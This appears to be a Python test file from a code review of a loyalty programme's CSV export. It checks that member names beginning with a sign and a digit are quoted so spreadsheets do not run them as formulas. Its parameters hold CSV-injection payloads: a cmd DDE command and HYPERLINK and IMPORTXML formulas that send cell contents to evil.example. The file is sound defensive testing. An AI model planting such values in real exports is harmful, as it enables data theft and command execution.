"""A second reader's review of the member messages and lists (issue 25): defects found, each as a test that fails
on the code as it was reviewed."""

from __future__ import annotations

import csv
import io

import pytest
from loyalty.answers.messages import ExpiringRow
from loyalty.reports import messages


@pytest.mark.parametrize(
    "name",
    [
        "-2+3+cmd|' /C calc'!A0",  # OWASP's CSV injection example: a sign, a digit, then a formula
        '+1+HYPERLINK("https://evil.example/?"&A1,"click")',
        '-1*0+IMPORTXML(CONCAT("https://evil.example/?",B2),"//a")',
    ],
)
def test_a_name_that_is_a_formula_after_a_sign_and_a_digit_is_quoted(name: str) -> None:
    """reports.messages._cell leaves any text that starts with `+` or `-` and a digit as it is, to keep phone
    numbers readable; but a member's `name` is free text (1-200 characters, chosen at enrolment by the member
    through a web shop), and `-2+3+cmd|...` is a formula a spreadsheet runs when the programme manager opens the
    list's CSV. Phones are E.164 (`+` and digits only), so only a cell that is wholly such a number needs leaving."""
    row = ExpiringRow.model_validate(
        {
            "member_id": "m-1",
            "name": name,
            "email": "ana@example.com",
            "phone": "+14155550101",
            "status": "active",
            "tier_id": "red",
            "points": 40,
            "balance": 140,
        }
    )
    parsed = next(csv.DictReader(io.StringIO(messages.csv_page([row], messages.EXPIRING_COLUMNS))))
    assert parsed["name"].startswith("'"), parsed["name"]
    assert parsed["phone"] == "+14155550101"
